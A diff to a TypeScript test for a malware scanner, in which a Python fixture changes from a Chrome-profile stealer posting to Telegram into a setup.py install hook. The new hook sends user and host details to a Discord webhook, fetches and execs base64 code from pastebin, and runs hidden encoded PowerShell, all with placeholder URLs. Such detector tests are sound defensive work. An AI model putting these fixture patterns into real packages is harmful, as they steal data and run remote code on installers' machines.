@@ -34,21 +34,28 @@ async function find(files: Record<string, string>): Promise<ReturnType<typeof ru
   return rule.find({ source: known(await factsOf(files)), metadata: known(METADATA), archive }, CONTEXT)
 }
 
-const SENDS = `import os, requests, threading
+const SENDS = `import base64, getpass, os, platform, socket, urllib.request
+import requests
+from setuptools import setup
+from setuptools.command.install import install
 
-def run():
-    for name in os.listdir(os.path.expanduser("~/AppData/Local/Google/Chrome/User Data/Default")):
-        requests.post("https://api.telegram.org/bot123456:none/sendDocument", files={"document": open(name, "rb")})
+class After(install):
+    def run(self):
+        install.run(self)
+        about = {"user": getpass.getuser(), "host": socket.gethostname(), "os": platform.platform()}
+        requests.post("https://discord.com/api/webhooks/1/none", json=about)
+        exec(base64.b64decode(urllib.request.urlopen("https://pastebin.com/raw/none").read()))
+        os.system("powershell -WindowStyle Hidden -EncodedCommand AAAA")
 
-threading.Thread(target=run).start()
+setup(name="demo", version="1.0", cmdclass={"install": After})
 `
 
 describe('the learned layer', () => {
-  it('warns of what sends files away on its own, with the facts that spoke and their lines', async () => {
-    const [sighting, ...others] = (await find({ 'demo/__init__.py': SENDS })) ?? []
+  it('warns of what names this machine, fetches and runs during installation, with the facts that spoke and their lines', async () => {
+    const [sighting, ...others] = (await find({ 'setup.py': SENDS })) ?? []
     expect(others).toEqual([])
     expect(sighting?.message).toMatch(/^looks like known malware to the learned layer \(score \d+\.\d of at least [\d.]+\): \S/)
-    expect(sighting?.place.file).toBe('demo/__init__.py')
+    expect(sighting?.place.file).toBe('setup.py')
     expect(sighting?.evidence?.length).toBeGreaterThan(0)
   })
 
